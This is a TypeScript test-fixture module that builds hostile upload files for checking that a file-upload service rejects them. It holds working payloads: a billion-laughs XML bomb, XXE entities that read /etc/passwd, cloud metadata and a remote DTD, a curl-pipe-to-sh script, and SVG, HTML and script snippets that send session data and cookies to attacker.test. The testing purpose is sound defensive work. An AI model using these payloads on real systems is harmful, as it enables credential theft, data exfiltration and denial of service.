/**
 * The parts hostile-corpus.ts builds its files from: ZIP archives and workbooks by hand (so
 * their directories can lie), images and documents, and the shape of one hostile file.
 */
import { deflateRawSync } from 'node:zlib';
import { MAX_FILE_BYTES } from '@tawreed/domain';
import { HEADER } from './fixtures.js';

export type Family = 'pdf' | 'png' | 'jpg' | 'gif' | 'webp' | 'xlsx' | 'csv';

export interface HostileFile {
  /** What the attack is. */
  attack: string;
  fileName: string;
  /** The Content-Type the attacker declares. */
  declaredType: string;
  bytes: Buffer;
  family: Family | null;
  /** The answer on a route that takes `family`; 413 and empty files answer the same everywhere. */
  refusal: 413 | 415 | 422;
  everywhere?: boolean;
  /** Routes that answer otherwise, with the reason in the file's construction. */
  byRoute?: Record<string, 413 | 415 | 422>;
}

/** Adds one file to the corpus (see hostileCorpus). */
export type AddFile = (
  attack: string,
  fileName: string,
  declaredType: string,
  bytes: Buffer,
  family: Family | null,
  refusal?: 413 | 415 | 422,
  everywhere?: boolean,
) => number;

// ---------------------------------------------------------------------------------------
// ZIP archives by hand, so directories can lie

interface ZipPart {
  name: string;
  content: Buffer;
  /** Stored (0) or deflated (8, the default). */
  method?: 0 | 8;
  /** What the central directory claims, when it lies. */
  declaredSize?: number;
}

export function zipOf(parts: ZipPart[], options: { zip64Locator?: boolean } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const part of parts) {
    const method = part.method ?? 8;
    const data = method === 8 ? deflateRawSync(part.content) : part.content;
    const size = part.declaredSize ?? part.content.length;
    const name = Buffer.from(part.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += local.length + name.length + data.length;
  }
  const centralSize = centrals.reduce((sum, part) => sum + part.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(centralSize, 12);
  end.writeUInt32LE(offset, 16);
  const locator = Buffer.alloc(options.zip64Locator ? 20 : 0);
  if (options.zip64Locator) locator.writeUInt32LE(0x07064b50, 0);
  return Buffer.concat([...locals, ...centrals, locator, end]);
}

export const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`;
export const WORKBOOK = `<?xml version="1.0" encoding="UTF-8"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Order Lines" sheetId="1" r:id="rId1"/></sheets></workbook>`;
export const WORKBOOK_RELS = `<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`;

const cell = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;

export function sheetXml(rows: string[][], prolog = ''): string {
  const body = rows
    .map(
      (row, r) =>
        `<row r="${r + 1}">${row.map((text, c) => cell(`${String.fromCharCode(65 + c)}${r + 1}`, text)).join('')}</row>`,
    )
    .join('');
  return `<?xml version="1.0" encoding="UTF-8"?>${prolog}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${body}</sheetData></worksheet>`;
}

export const GOOD_ROWS = [HEADER.slice(0, 5), ['AMX-500', 'Amoxicillin 500mg', '8.35', '10', '1']];

/** A workbook of hand-made parts; `parts` replace or add to the default ones. */
export function workbook(parts: Record<string, string | Buffer> = {}): Buffer {
  const all: Record<string, string | Buffer> = {
    '[Content_Types].xml': CONTENT_TYPES,
    'xl/workbook.xml': WORKBOOK,
    'xl/_rels/workbook.xml.rels': WORKBOOK_RELS,
    'xl/worksheets/sheet1.xml': sheetXml(GOOD_ROWS),
    ...parts,
  };
  return zipOf(
    Object.entries(all).map(([name, content]) => ({
      name,
      content: typeof content === 'string' ? Buffer.from(content) : content,
    })),
  );
}

export const BILLION_LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>`;
export const XXE_FILE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
export const XXE_HTTP = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>';
export const XXE_PARAM = '<!DOCTYPE x [<!ENTITY % ext SYSTEM "http://attacker.test/evil.dtd"> %ext;]>';

export function sharedStringsWith(prolog: string, text: string) {
  return `<?xml version="1.0" encoding="UTF-8"?>${prolog}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>${text}</t></si></sst>`;
}

// ---------------------------------------------------------------------------------------
// Images and documents

function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

export function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type, 'latin1'), data])));
  return Buffer.concat([head, data, crc]);
}

/** A real 1x1 GIF89a. */
export const gifBytes = () =>
  Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/** A minimal JPEG: SOI, a JFIF APP0, EOI. */
export const jpegBytes = () =>
  Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
    Buffer.from('JFIF\0', 'latin1'),
    Buffer.from([0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]),
    Buffer.from([0xff, 0xdb, 0x00, 0x43, 0x00, ...new Array(64).fill(1)]),
    Buffer.from([0xff, 0xd9]),
  ]);

/** A RIFF/WEBP header claiming more data than the file has. */
export function truncatedWebp(): Buffer {
  const bytes = Buffer.alloc(40);
  bytes.write('RIFF', 0, 'latin1');
  bytes.writeUInt32LE(5000, 4);
  bytes.write('WEBPVP8 ', 8, 'latin1');
  bytes.writeUInt32LE(4980, 16);
  return bytes;
}

export const elfBytes = () =>
  Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120)]);
export const machOBytes = () =>
  Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]), Buffer.alloc(64)]);
export const javaClassBytes = () =>
  Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x34]), Buffer.alloc(64)]);
export const shellScript = () => Buffer.from('#!/bin/sh\ncurl -s http://attacker.test/x | sh\n');
export const SVG = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="fetch('/api/auth/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.test',t))"><script>alert(document.cookie)</script></svg>`;
export const HTML =
  '<!DOCTYPE html><html><body><script>fetch("/api/orders").then(r=>r.text()).then(alert)</script></body></html>';
export const JS = '\n<script>document.location="https://attacker.test/?c="+document.cookie</script>\n';

/** A text file just over the limit, padded with a repeated character. */
export const oversized = (head: Buffer, extra = 1) =>
  Buffer.concat([head, Buffer.alloc(MAX_FILE_BYTES - head.length + extra, 0x20)]);

/** A PDF whose body carries a ZIP (an xlsx) inside a stream: one file that is two. */
export function pdfWithZipStream(zip: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n3 0 obj << /Length ${zip.length} >>\nstream\n`,
      'latin1',
    ),
    zip,
    Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1'),
  ]);
}

// ---------------------------------------------------------------------------------------

export const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
